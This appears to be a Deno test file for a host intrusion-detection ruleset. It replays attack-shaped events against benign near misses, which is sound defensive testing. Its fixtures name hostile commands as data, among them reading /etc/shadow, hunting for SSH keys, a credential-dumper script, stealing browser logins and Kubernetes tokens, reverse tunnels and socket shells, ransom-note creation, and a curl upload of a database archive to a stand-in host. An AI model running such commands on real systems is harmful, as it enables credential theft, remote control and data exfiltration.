/**
 * Precision of the default rules for credential access, discovery, lateral
 * movement, command and control, exfiltration and impact: for each rule, a
 * case that must fire it and near misses (the same tool or event shape used
 * benignly, or one step short of a sequence) on which no default rule may
 * fire. All cases go through one real `kestrel replay` of the default
 * ruleset; alerts are attributed to cases by process id (case n uses pids
 * n*100 … n*100+99), and each case has its own ten-minute window so that
 * sequences never span two cases.
 */
import assert from "node:assert/strict";
import {
  type Case,
  exec,
  execCases,
  file,
  type Json,
  one,
  parent,
  proc,
  ptrace,
  replayProblems,
  type Step,
  steps,
} from "./replay_cases.ts";

/** `n` steps 100 ms apart, the i-th made by `f(i)`. */
const times = (n: number, f: (i: number) => Json): Step[] =>
  steps(...Array.from({ length: n }, (_, i) => f(i)));

function connect(pid: number, who: string, ip: string, port: number, outcome = "success"): Json {
  return {
    event: { category: ["network"], type: ["start"], action: "connection_attempted", outcome },
    process: proc(pid, who, [who]),
    network: { transport: "tcp", type: "ipv4", direction: "egress" },
    destination: { ip, port },
  };
}

function dns(pid: number, who: string, name: string): Json {
  return {
    event: { category: ["network"], type: ["protocol"], action: "lookup_requested" },
    process: proc(pid, who, [who]),
    network: { transport: "udp", protocol: "dns", direction: "egress" },
    destination: { ip: "127.0.0.53", port: 53 },
    dns: { question: { name, type: "A", class: "IN" } },
  };
}

function auth(pid: number, outcome: string, user: string, ip?: string): Json {
  return {
    event: { category: ["authentication"], type: ["start"], action: "log_on", outcome },
    process: proc(pid, "sshd-session", ["sshd-session"], "sshd"),
    user: { name: user },
    ...(ip ? { source: { ip } } : {}),
  };
}

const socketIo = { Ext: { stdin: "socket", stdout: "socket" } };
const long = (i: number) => `${"a".repeat(60)}.${"b".repeat(50)}.${i}.t.example.net`;

const CASES: Case[] = [
  {
    name: "cat /etc/shadow",
    fires: "credential-access-shadow-file-read",
    steps: (p) => one(file(p, "cat", "open", "/etc/shadow")),
  },
  {
    name: "unix_chkpwd reads /etc/shadow",
    steps: (p) => one(file(p, "unix_chkpwd", "open", "/etc/shadow")),
  },
  { name: "cat /etc/passwd", steps: (p) => one(file(p, "cat", "open", "/etc/passwd")) },
  ...execCases(
    "credential-access-recursive-grep-for-secrets",
    "grep -ri password /srv/app",
    "grep -r todo notes",
    "grep password /etc/login.defs",
  ),
  ...execCases(
    "credential-access-private-key-file-search",
    "find / -name id_rsa",
    "find . -name *.c",
  ),
  {
    name: "update-ca-certificates finds *.pem",
    steps: (p) =>
      one(
        exec(
          p,
          "find",
          ["find", "-L", "/etc/ssl/certs", "-name", "*.pem"],
          "update-ca-certificates",
        ),
      ),
  },
  ...execCases(
    "credential-access-credential-dumper-tool",
    "python3 /tmp/x/mimipenguin.py",
    "ls /src/mimipenguin/",
  ),
  {
    name: "five failed logins then a success",
    fires: "credential-access-pam-brute-force-then-success",
    steps: (p) => [
      ...times(5, () => auth(p, "failure", "alice")),
      { ms: 1000, body: auth(p, "success", "alice") },
    ],
  },
  {
    name: "four failed logins then a success",
    steps: (p) => [
      ...times(4, () => auth(p, "failure", "alice")),
      { ms: 1000, body: auth(p, "success", "alice") },
    ],
  },
  {
    name: "ten failed logins from one address",
    fires: "credential-access-pam-password-spraying",
    steps: (p) => times(10, (i) => auth(p, "failure", `user${i}`, "192.0.2.7")),
  },
  {
    name: "nine failed logins from one address",
    steps: (p) => times(9, (i) => auth(p, "failure", `user${i}`, "192.0.2.7")),
  },
  {
    name: "attach then peek",
    fires: "credential-access-ptrace-memory-read",
    steps: (p) => [
      { ms: 0, body: ptrace(p, "python3", 16, 4242) },
      { ms: 10, body: ptrace(p, "python3", 2, 4242) },
    ],
  },
  {
    name: "gdb attach then peek",
    steps: (p) => [
      { ms: 0, body: ptrace(p, "gdb", 16, 4242) },
      { ms: 10, body: ptrace(p, "gdb", 2, 4242) },
    ],
  },
  {
    name: "whoami, uname, ip, getent",
    fires: "discovery-host-enumeration-burst",
    steps: (p) =>
      steps(
        exec(p, "whoami", ["whoami"]),
        exec(p + 1, "uname", ["uname", "-a"]),
        exec(p + 2, "ip", ["ip", "addr"]),
        exec(p + 3, "getent", ["getent", "passwd"]),
      ).map((s) => ({ ...s, body: withParent(s.body, p + 90) })),
  },
  {
    name: "whoami, uname, ip",
    steps: (p) =>
      steps(
        exec(p, "whoami", ["whoami"]),
        exec(p + 1, "uname", ["uname", "-a"]),
        exec(p + 2, "ip", ["ip", "addr"]),
      ).map((s) => ({ ...s, body: withParent(s.body, p + 90) })),
  },
  {
    name: "twenty refused connections",
    fires: "discovery-network-port-scan",
    steps: (p) => times(20, (i) => connect(p, "python3", "10.0.0.9", 1000 + i, "failure")),
  },
  {
    name: "nineteen refused connections",
    steps: (p) => times(19, (i) => connect(p, "python3", "10.0.0.9", 1000 + i, "failure")),
  },
  ...execCases(
    "command-and-control-ssh-port-forwarding",
    "ssh -N -R 9000:localhost:22 gw.example",
    "ssh -l admin db.example",
    "ssh -L 8080:localhost:80 web.example",
  ),
  {
    name: "bash connects out on 4444",
    fires: "command-and-control-shell-network-connection",
    steps: (p) => one(connect(p, "bash", "203.0.113.5", 4444)),
  },
  { name: "bash resolver on 53", steps: (p) => one(connect(p, "bash", "127.0.0.53", 53)) },
  {
    name: "sh -i on a socket from python",
    fires: "command-and-control-interactive-shell-on-socket",
    steps: (p) => one(exec(p, "sh", ["sh", "-i"], "python3", socketIo)),
  },
  {
    name: "shell on a socket under sshd-session",
    steps: (p) => one(exec(p, "bash", ["bash"], "sshd-session", socketIo)),
  },
  {
    name: "shell script with stdin on a socket",
    steps: (p) => one(exec(p, "sh", ["sh", "/usr/lib/helper.sh"], "python3", socketIo)),
  },
  {
    name: "DNS of a mining pool",
    fires: "impact-mining-pool-dns-lookup",
    steps: (p) => one(dns(p, "kworker", "pool.supportxmr.com")),
  },
  { name: "DNS of an NTP pool", steps: (p) => one(dns(p, "chronyd", "2.debian.pool.ntp.org")) },
  {
    name: "ten long DNS names",
    fires: "command-and-control-dns-tunneling-burst",
    steps: (p) => times(10, (i) => dns(p, "python3", long(i))),
  },
  {
    name: "nine long DNS names",
    steps: (p) => times(9, (i) => dns(p, "python3", long(i))),
  },
  {
    name: "five files renamed to .encrypted",
    fires: "impact-ransomware-mass-encrypted-rename",
    steps: (p) => times(5, (i) => file(p, "python3", "rename", `/home/u/doc${i}.pdf.encrypted`)),
  },
  {
    name: "five lock files renamed into place",
    steps: (p) => times(5, (i) => file(p, "cargo", "rename", `/src/c${i}/Cargo.lock`)),
  },
  {
    name: "ransom note",
    fires: "impact-ransom-note-created",
    steps: (p) => one(file(p, "python3", "creation", "/home/u/HOW_TO_DECRYPT_FILES.txt")),
  },
  {
    name: "crypto library documentation",
    steps: (p) => one(file(p, "make", "creation", "/build/doc/EVP_DecryptInit.html")),
  },
  {
    name: "systemctl stop postgresql",
    fires: "impact-critical-service-stopped",
    steps: (p) => one(exec(p, "systemctl", ["systemctl", "stop", "postgresql"])),
  },
  {
    name: "package upgrade stops postgresql",
    steps: (p) =>
      one(exec(p, "systemctl", ["systemctl", "stop", "postgresql.service"], "deb-systemd-invoke")),
  },
  {
    name: "systemctl restart nginx",
    steps: (p) => one(exec(p, "systemctl", ["systemctl", "restart", "nginx"])),
  },
  ...execCases(
    "impact-account-access-removal",
    "passwd -l bob",
    "passwd -e bob",
    "usermod -e 2030-01-01 bob",
  ),
  ...execCases(
    "credential-access-kubernetes-service-account-token",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/namespace",
  ),
  ...execCases(
    "credential-access-browser-credential-store-access",
    "cp /home/u/.mozilla/firefox/x.default/logins.json .",
    "cp /home/u/.mozilla/firefox/x.default/prefs.js .",
  ),
  ...execCases("discovery-cloud-identity-enumeration", "aws sts get-caller-identity", "aws s3 ls"),
  {
    name: "shutdown -h now",
    fires: "impact-system-shutdown-or-reboot",
    steps: (p) => one(exec(p, "shutdown", ["shutdown", "-h", "now"])),
  },
  {
    name: "reboot after unattended upgrades",
    steps: (p) => one(exec(p, "shutdown", ["shutdown", "-r", "now"], "unattended-upgr")),
  },
  { name: "atd reads /etc/shadow", steps: (p) => one(file(p, "atd", "open", "/etc/shadow")) },
  ...execCases(
    "exfiltration-curl-wget-file-upload",
    "curl -T db.tgz https://drop.example/",
    "curl -fsSL -o x.tgz https://example.com/x",
  ),
];

function withParent(body: Json, parentPid: number): Json {
  return { ...body, process: { ...(body.process as Json), parent: parent(parentPid, "bash") } };
}

Deno.test("default rules fire on their cases and stay quiet on near misses", async () => {
  assert.deepEqual(await replayProblems(CASES), []);
  assert.ok(CASES.some((c) => c.fires) && CASES.some((c) => !c.fires));
});
